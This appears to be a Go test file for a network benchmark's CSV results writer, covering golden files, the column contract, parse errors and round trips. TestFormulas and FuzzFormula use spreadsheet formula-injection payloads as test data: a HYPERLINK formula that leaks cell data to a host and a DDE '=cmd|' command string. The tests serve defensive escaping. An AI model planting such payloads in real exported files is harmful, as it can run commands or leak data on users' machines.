// SPDX-License-Identifier: MIT

package results

import (
	"bytes"
	"encoding/csv"
	"errors"
	"flag"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/zcbench/zcbench/internal/ends"
	"github.com/zcbench/zcbench/internal/frugal"
	"github.com/zcbench/zcbench/plan"
)

var update = flag.Bool("update", false, "rewrite the golden files")

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("%s (-want +got; -update rewrites it):\n%s", path, diff)
	}
}

// stopped is a run that measured nothing.
func stopped(seq int) Record {
	return Record{Schema: 1, RunID: "r-stopped", SessionID: "s1", Seq: seq, Cell: plan.Cell{ID: "devmem/tcp",
		RX: "devmem",
		TX: "tcp"},
		Verdict: Unsupported, Reason: "bind-rx: operation not supported", Fix: "use a NIC with header split"}
}

func TestWriteCSV(t *testing.T) {
	dir := t.TempDir()
	recs := []Record{sample(0), sample(1), stopped(2)}
	if err := folderOf(t, dir).WriteCSV(recs); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{RunsFile, MetricsFile, SamplesFile} {
		got, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		golden(t, name+".golden", got)
	}
	if _, err := os.Stat(filepath.Join(dir, FlowsFile)); err != nil {
		t.Error(err)
	}
	if left, _ := filepath.Glob(filepath.Join(dir, ".*")); len(left) > 0 {
		t.Errorf("left behind: %v", left)
	}
}

func TestWriteFileKeepsOldOnError(t *testing.T) {
	path := filepath.Join(t.TempDir(), "x.csv")
	if err := os.WriteFile(path, []byte("old"), 0o644); err != nil {
		t.Fatal(err)
	}
	boom := errors.New("boom")
	err := WriteFile(path, func(w io.Writer) error {
		io.WriteString(w, "half")
		return boom
	})
	if !errors.Is(err, boom) || !strings.Contains(err.Error(), path) {
		t.Errorf("got %v", err)
	}
	if got, _ := os.ReadFile(path); string(got) != "old" {
		t.Errorf("the file is now %q", got)
	}
	if files, _ := os.ReadDir(filepath.Dir(path)); len(files) != 1 {
		t.Errorf("left behind: %v", files)
	}
}

// The columns up to tool_version are a contract with plotting scripts.
func TestColumnContract(t *testing.T) {
	const want = "schema_version,run_id,cell_id,session_id,block,seq,rep,warmup,host,role,rx_mode,tx_mode,gro," +
		"hw_gro,big_tcp_bytes," +
		"cpu_layout,rx_buf_len,mtu,message_bytes,start_utc_ns,duration_s,bytes,throughput_gbps,cpu_app_cores," +
		"cpu_sys_cores,cpu_soft_cores,cpu_busy_cores,iowait_cores," +
		"stat_coverage,power_w,power_idle_w,power_source,roi_cpu,roi_power,ns_per_kb,joule_per_gb," +
		"zero_copy_bytes,copied_bytes,linear_bytes,mismatches,retrans,rx_drops," +
		"verdict,reason,flags,kernel,driver,firmware,cpu_model,governor,mitigations,irq_cpu,app_cpu,tool_version,"
	var b strings.Builder
	if err := WriteRuns(&b, nil); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(b.String(), want) {
		t.Errorf("header is\n%swant it to begin with\n%s", b.String(), want)
	}
}

func TestRunsRoundTrip(t *testing.T) {
	same := sample(1)
	same.TG.Name = same.SUT.Name
	same.TG.Env.Upper, same.TG.Threads = "bond0.7", 4
	same.RunID = "same"
	same.Start, same.Turns = 3, &Turns{Turns: 18}
	recs := []Record{sample(0), same, stopped(2)}
	var b bytes.Buffer
	if err := WriteRuns(&b, recs); err != nil {
		t.Fatal(err)
	}
	got, err := ReadRuns(&b)
	if err != nil {
		t.Fatal(err)
	}
	for i := range recs {
		for _, h := range []*Host{&recs[i].SUT, &recs[i].TG} {
			h.Metrics, h.Series = nil, nil
		}
		recs[i].Reason = strings.ReplaceAll(recs[i].Reason, "\n", " ")
	}
	if diff := cmp.Diff(recs, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// run_id and host join the files, so they must be unique together.
func TestHostLabelUnique(t *testing.T) {
	r := sample(0)
	for _, names := range [][2]string{{"a", "b"}, {"local", "local"}, {"", ""}, {"a#sut", "a"}} {
		r.SUT.Name, r.TG.Name = names[0], names[1]
		if sut, tg := hostName(&r, ends.SUT), hostName(&r, ends.TG); sut == tg || sut == "" || tg == "" {
			t.Errorf("%q: %q and %q", names, sut, tg)
		}
	}
}

func TestReadRunsErrors(t *testing.T) {
	const head = "schema_version,run_id,cell_id,role,verdict,bytes,warmup,power_w\n"
	for _, tt := range []struct{ name, text, want string }{
		{"empty", "", "line 1: empty file"},
		{"unknown column", "schema_version,run_id,cel_id\n", "line 1, column 23: unknown column \"cel_id\""},
		{"column twice", "run_id,run_id\n", "line 1, column 8: column \"run_id\" twice"},
		{"column missing", "schema_version,run_id\n", "line 1: no column \"cell_id\""},
		{"newer", head + "99,r,c,sut,ok,,false,\n", "line 2, column 1: schema_version: schema version 99 is newer"},
		{"no version", head + ",r,c,sut,ok,,false,\n", "line 2, column 1: schema_version: empty"},
		{"role", head + "1,r,c,dut,ok,,false,\n", "line 2, column 7: role: \"dut\" is not sut or tg"},
		{"verdict", head + "1,r,c,sut,good,,false,\n", "line 2, column 11: verdict: unknown verdict \"good\""},
		{"negative", head + "1,r,c,sut,ok,-1,false,\n",
			"line 2, column 14: bytes: \"-1\" is not a whole number from 0"},
		{"too large", head + "1,r,c,sut,ok,99999999999999999999,false,\n",
			"line 2, column 14: bytes: \"99999999999999999999\" is out of range"},
		{"bool", head + "1,r,c,sut,ok,,yes,\n", "line 2, column 15: warmup: \"yes\" is not true or false"},
		{"nan", head + "1,r,c,sut,ok,,false,NaN\n", "line 2, column 21: power_w: \"NaN\" is not a number"},
		{"hex", head + "1,r,c,sut,ok,,false,0x1p4\n", "line 2, column 21: power_w"},
		{"short row", head + "1,r\n", "record on line 2: wrong number of fields"},
		{"no run", head + "1,,c,sut,ok,,false,\n", "line 2: no run_id"},
		{"two sut rows", head + "1,r,c,sut,ok,,false,\n1,r,c,sut,ok,,false,\n",
			"line 3: run \"r\" has a second sut row; the first is on line 2"},
		{"ends disagree", head + "1,r,c,sut,ok,,false,\n1,r,c,tg,failed,,false,\n",
			"line 3: run \"r\" differs from its row on line 2"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			_, err := ReadRuns(strings.NewReader(tt.text))
			if err == nil || !strings.HasPrefix(err.Error(), tt.want) {
				t.Errorf("got  %v\nwant %s", err, tt.want)
			}
		})
	}
}

// What a stranger writes of starts and turns is bounded, in tables and in journals.
func TestStartsAreBounded(t *testing.T) {
	for _, x := range []struct{ fields, want string }{
		{"100000,100000", ""},
		{",", ""},
		{"-1,", "line 2: start -1, not 0 to 100000"},
		{"100001,", "line 2: start 100001, not 0 to 100000"},
		{",-1", "line 2: -1 turns, not 0 to 100000"},
		{",100001", "line 2: 100001 turns, not 0 to 100000"},
		{"1.5,", "line 2, column 14: start: "},
		{",many", "line 2, column 15: turns: "},
	} {
		_, err := ReadRuns(strings.NewReader("schema_version,run_id,cell_id,role,verdict,start,turns\n1,r,c,sut,ok," +
			x.fields + "\n"))
		if x.want == "" && err != nil || x.want != "" && (err == nil || !strings.HasPrefix(err.Error(), x.want)) {
			t.Errorf("%s: %v, want %q", x.fields, err, x.want)
		}
	}
	for _, change := range []func(*Record){func(r *Record) { r.Start = 100_001 },
		func(r *Record) { r.Turns = &Turns{Turns: -1} }} {
		r := sample(0)
		if change(&r); Check(r) == nil {
			t.Errorf("a journal takes start %d, %+v", r.Start, r.Turns)
		}
	}
}

// runs-v1.csv has only the contract's columns: files like it stay readable.
func TestOldRuns(t *testing.T) {
	f, err := os.Open("testdata/runs-v1.csv")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	recs, err := ReadRuns(f)
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 2 || *recs[0].SUT.ThroughputGbps != 16 || recs[0].TG.Name != "netns:b" || recs[1].SUT.Bytes != nil {
		t.Errorf("%+v", recs)
	}
}

func TestReadRunsBOM(t *testing.T) {
	text := "\ufeffschema_version,run_id,cell_id,role,verdict\n1,r,c,sut,ok\n"
	if recs, err := ReadRuns(strings.NewReader(text)); err != nil || len(recs) != 1 {
		t.Errorf("%v, %v", recs, err)
	}
}

// What a spreadsheet would run comes from far hosts: it stands behind a quote, in every
// file and every text column, and reading gives back what was written.
func TestFormulas(t *testing.T) {
	const link = `=HYPERLINK("http://x/?"&A1)`
	r := sample(0)
	r.RunID, r.SessionID, r.Reason, r.Fix = "+1+1|cmd", "@SUM(A1)", link, "\t=1+1"
	r.Cell.ID, r.Source = "-2+3", "＝1+1"
	r.Warnings, r.Flags = []string{link, "plain", "-x"}, []string{"a", "=b"}
	r.SUT.Name, r.TG.Name = "=cmd|' /C calc'!A0", "'=b"
	r.SUT.Env.CPUModel, r.SUT.Env.Driver, r.SUT.Env.AppCPU, r.TG.Env.Kernel = " =1", "''-x", "-1", "'6.18"
	for i := range r.SUT.Metrics {
		m := &r.SUT.Metrics[i]
		m.Name, m.Unit, m.Source, m.Quality, m.Value = "=a", "+b", "@c", "-d", -1.5
	}
	for i := range r.SUT.Series {
		s := &r.SUT.Series[i]
		s.Name, s.Unit, s.V[0] = "=a", "+b", -2e-9
	}
	dir := t.TempDir()
	if err := folderOf(t, dir).WriteCSV([]Record{r}); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{RunsFile, MetricsFile, SamplesFile} {
		data, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range rows {
			for i, field := range row {
				first := strings.TrimLeft(field, " \t")
				_, number := strconv.ParseFloat(first, 64)
				if first != "" && strings.ContainsAny(first[:1], "=+-@") && number != nil {
					t.Errorf("%s, %s: %q", name, rows[0][i], field)
				}
			}
		}
		if !bytes.Contains(data, []byte(",-1,")) && name == RunsFile || bytes.Contains(data, []byte("'-1")) {
			t.Errorf("%s: a number was quoted", name)
		}
	}
	data, _ := os.ReadFile(filepath.Join(dir, RunsFile))
	recs, err := ReadRuns(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	for _, h := range []*Host{&r.SUT, &r.TG} {
		h.Metrics, h.Series = nil, nil
	}
	r.Fix = " =1+1"
	if diff := cmp.Diff([]Record{r}, recs); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func FuzzFormula(f *testing.F) {
	for _, s := range []string{"", "=1", "'=1", "''", "-1", "'-1", "- ", "＝", "' '+", "\xff=", "-0x1p4", "+Inf", "a;=1",
		";'=1;", "-1;+x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		q := asText(s)
		if asIs(q) != s {
			t.Errorf("%q, written %q, read %q", s, q, asIs(q))
		}
		for field := range strings.SplitSeq(q, ";") { // as the other separator has them
			if strings.HasPrefix(field, "=") || strings.HasPrefix(field, "@") {
				t.Errorf("%q is written %q", s, q)
			}
		}
	})
}

func FuzzRunsCSV(f *testing.F) {
	data, err := os.ReadFile("testdata/runs-v1.csv")
	if err != nil {
		f.Fatal(err)
	}
	f.Add(data)
	f.Add([]byte("schema_version,run_id,cell_id,role,verdict,flags,host\n1,r,c,tg,ok,a;b\\;c,h#tg\n"))
	f.Add([]byte("schema_version,run_id,cell_id,role,verdict,flags,host\n1,'=r,''-c,tg,ok,'=a;' +b,@h#tg\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		frugal.Do(t, func() {
			recs, err := ReadRuns(bytes.NewReader(data))
			if err != nil {
				return
			}
			var once, twice bytes.Buffer
			if err := WriteRuns(&once, recs); err != nil {
				t.Fatal(err)
			}
			again, err := ReadRuns(bytes.NewReader(once.Bytes()))
			if err != nil {
				// Control characters become spaces: that can make two ids equal.
				if strings.Contains(err.Error(), "second") || strings.Contains(err.Error(), "differs") {
					return
				}
				t.Fatalf("what was written cannot be read: %v\n%s", err, once.Bytes())
			}
			if err := WriteRuns(&twice, again); err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(once.String(), twice.String()); diff != "" {
				t.Fatal(diff)
			}
			rows, err := csv.NewReader(&once).ReadAll()
			if err != nil || len(rows) != 1+2*len(recs) {
				t.Fatalf("%d rows for %d runs, %v", len(rows), len(recs), err)
			}
		})
	})
}
